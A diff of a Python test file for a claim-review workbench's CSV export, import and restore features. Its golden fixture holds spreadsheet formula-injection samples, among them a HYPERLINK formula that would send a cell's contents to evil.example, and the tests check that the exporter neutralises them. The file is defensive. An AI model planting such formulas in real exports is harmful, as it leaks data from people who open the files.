@@ -21,7 +21,7 @@ from workbench.models import User
 from workbench.ratings import find_rating
 from workbench.reports.columns import COLUMNS, neutralise, unneutralise
 from workbench.reports.csv_export import csv_bytes, csv_chunks
-from workbench.reports.csv_import import import_csv
+from workbench.reports.csv_import import run_import
 from workbench.reports.csv_read import ReadOptions
 
 BODY = ("Brussels (Wire) - The EU backed an aid package valued at least at $6.2 billion, "
@@ -79,10 +79,14 @@ def empty_claims(engine: Engine) -> None:
             connection.execute(text(f"DELETE FROM {table}"))  # noqa: S608 - fixed names
 
 
-def import_as_cli(engine: Engine, data: bytes, options: ReadOptions | None = None, **kw):  # type: ignore[no-untyped-def]
+def desk(engine: Engine) -> User:
+    """The built-in ``cli`` admin, who may export and restore."""
     with db.write_session(engine) as s:
-        return import_csv(s, users.builtin_user(s, users.CLI_USER), data,
-                          options or ReadOptions(), **kw)
+        return users.builtin_user(s, users.CLI_USER)
+
+
+def import_as_cli(engine: Engine, data: bytes, options: ReadOptions | None = None, **kw):  # type: ignore[no-untyped-def]
+    return run_import(desk(engine), data, options or ReadOptions(), engine=engine, **kw)
 
 
 HEADER = ",".join(COLUMNS)
@@ -94,7 +98,7 @@ GOLDEN = (
     "https://a.example/1 | https://a.example/2,"
     "https://web.archive.org/web/2025/https://a.example/1 | ,rita,eddie,2025-03-07T09:15:00Z,0,"
     "2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,4\r\n"
-    '2,,,"Line one, ""quoted""\r\nline two 🙂 مرحبا بالعالم",,,'
+    '2,,,"Line one, ""quoted""\nline two 🙂 مرحبا بالعالم",,,'
     "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+1,,quote,"
     "'-2+3 | @SUM(A1),new,,,,0,0,,,cli,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1\r\n"
     '3,"EU aid, ""ReArm""",https://news.example/aid,ReArm Europe,122,134,ReArm Europe,,,other,,'
@@ -111,31 +115,31 @@ def fixed(engine: Engine, reviewer: User, editor: User) -> Engine:
 
 
 def test_golden_bytes(fixed: Engine) -> None:
-    assert csv_bytes(fixed) == GOLDEN
+    assert csv_bytes(desk(fixed), fixed) == GOLDEN
 
 
 def test_bom_and_chunks(fixed: Engine) -> None:
-    data = csv_bytes(fixed, bom=True)
+    data = csv_bytes(desk(fixed), fixed, bom=True)
     assert data.startswith(b"\xef\xbb\xbf" + HEADER.encode())
-    chunks = list(csv_chunks(fixed, chunk_rows=1))
+    chunks = list(csv_chunks(desk(fixed), fixed, chunk_rows=1))
     assert len(chunks) == 5 and "".join(chunks).encode() == GOLDEN  # header + 4 rows + tail
 
 
 def test_parses_back_with_newlines_kept(fixed: Engine) -> None:
     rows = list(csv.DictReader(io.StringIO(GOLDEN.decode(), newline="")))
     assert [r["claim_id"] for r in rows] == ["1", "2", "3", "4"]
-    assert rows[1]["quote"] == HOSTILE_QUOTE
+    assert rows[1]["quote"] == HOSTILE_QUOTE.replace("\r\n", "\n")  # stored cleaned
     assert rows[1]["statement"] == "'" + FORMULA
     assert rows[0]["rationale"].count("\n") == 1
 
 
 def test_round_trip_into_empty_database_gives_same_bytes(fixed: Engine) -> None:
-    first = csv_bytes(fixed)
+    first = csv_bytes(desk(fixed), fixed)
     empty_claims(fixed)
-    assert csv_bytes(fixed) == (HEADER + "\r\n").encode()
-    report = import_as_cli(fixed, first, source_name="claims.csv")
+    assert csv_bytes(desk(fixed), fixed) == (HEADER + "\r\n").encode()
+    report = import_as_cli(fixed, first, source_name="claims.csv", restore=True)
     assert not report.errors and report.created == 4
-    assert csv_bytes(fixed) == first
+    assert csv_bytes(desk(fixed), fixed) == first
     with db.write_session(fixed) as s:  # new ids continue after the restored ones
         cli = users.builtin_user(s, users.CLI_USER)
         assert claims.create_claim(s, cli, claims.ClaimDraft(None, statement="next")).id == 5
@@ -157,14 +161,14 @@ def test_tab_and_cr_cells_from_old_data_are_neutralised(fixed: Engine) -> None:
     with fixed.begin() as connection:
         connection.execute(text("UPDATE claim SET quote = :q, claimant = :c WHERE id = 4"),
                            {"q": "\tTabbed", "c": "\r=1+1"})
-    row = list(csv.DictReader(io.StringIO(csv_bytes(fixed).decode(), newline="")))[3]
+    row = list(csv.DictReader(io.StringIO(csv_bytes(desk(fixed), fixed).decode(), newline="")))[3]
     assert row["quote"] == "'\tTabbed" and row["claimant"] == "'\r=1+1"
     assert row["claim_id"] == "4" and row["version"] == "2"  # numbers are never prefixed
 
 
 def test_filters(fixed: Engine) -> None:
     def ids(**kw: object) -> list[str]:
-        text_ = csv_bytes(fixed, ClaimFilters(**kw)).decode()  # type: ignore[arg-type]
+        text_ = csv_bytes(desk(fixed), fixed, ClaimFilters(**kw)).decode()  # type: ignore[arg-type]
         return [r["claim_id"] for r in csv.DictReader(io.StringIO(text_, newline=""))]
 
     assert ids(states=("approved",)) == ["1"]
@@ -178,12 +182,18 @@ def test_filters(fixed: Engine) -> None:
     assert ids(end=date(2025, 3, 4)) == []
 
 
-def test_reports_page_renders(fixed: Engine) -> None:
+def test_reports_page_renders(fixed: Engine, editor: User) -> None:
     from streamlit.testing.v1 import AppTest
 
+    from tests.ui.conftest import signed_in
+
     page = Path(__file__).resolve().parents[2] / "workbench" / "ui" / "pages" / "reports.py"
-    at = AppTest.from_file(str(page), default_timeout=30).run()
+    at = AppTest.from_file(str(page), default_timeout=30)
+    for key, value in signed_in(editor).items():
+        at.session_state[key] = value
+    at.run()
     assert not at.exception, at.exception
+    assert not [c for c in at.checkbox if c.key == "reports_restore"]  # admins only
     at.button(key="reports_claimreview_check").click().run()
     assert not at.exception, at.exception
     assert any("1 ClaimReview objects ready" in t.value for t in at.text)
